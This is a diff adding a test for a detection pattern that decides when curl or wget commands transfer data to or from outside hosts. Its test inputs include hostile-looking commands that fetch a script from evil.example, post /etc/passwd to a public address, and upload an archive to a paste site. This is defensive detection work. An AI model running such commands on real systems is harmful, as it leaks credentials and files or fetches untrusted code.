@@ -159,3 +159,19 @@ test("modules Debian builds into its kernel are in-tree when another distributio
   t.match(isPackagedKernelModule("input-leds")?.source, /modules\.builtin/, "named with a dash, and sourced from the package's list");
   t.equal(isPackagedKernelModule("ipt_logmark"), undefined, "a made-up netfilter name is not");
 });
+
+test("curl or wget counts as a transfer only to or from outside the site, and not when its output is thrown away", async (t) => {
+  const { OUTSIDE_TRANSFER, commandSignals } = await import("../../shared/engine/detections/patterns.js");
+  const outside = (c: string) => OUTSIDE_TRANSFER.test(c);
+  t.ok(outside("curl -fsSL https://evil.example/x.sh -o /tmp/x.sh"), "a public name");
+  t.ok(outside("wget -q http://203.0.113.7/m"), "a public address");
+  t.ok(outside("curl -s -u admin:pw -d @/etc/passwd 198.51.100.9:8080/up"), "a target it cannot read counts as outside");
+  t.ok(outside("curl -F file=@/dev/shm/.s/a.tgz https://0x0.st"), "an upload to a paste site");
+  t.notOk(outside("curl -sk -o /dev/null https://127.0.0.1/healthz"), "a local health check");
+  t.notOk(outside("curl -s -X POST localhost:9090/-/reload"), "a local reload without a scheme");
+  t.notOk(outside("cat /tmp/m | curl --data-binary @- http://pushgateway:9091/metrics/job/kafka"), "a push to a service name");
+  t.notOk(outside("curl -XDELETE 'http://10.0.3.4:9200/logs-*'"), "a private address");
+  t.notOk(outside("curl -s https://ops.internal/ping -o /dev/null"), "an internal domain");
+  t.notOk(outside("echo nothing to fetch"));
+  t.same(commandSignals("*/5 * * * * curl -s localhost:9100/metrics > /dev/null").map((s) => s.why), [], "no signal at all for a local scrape");
+});
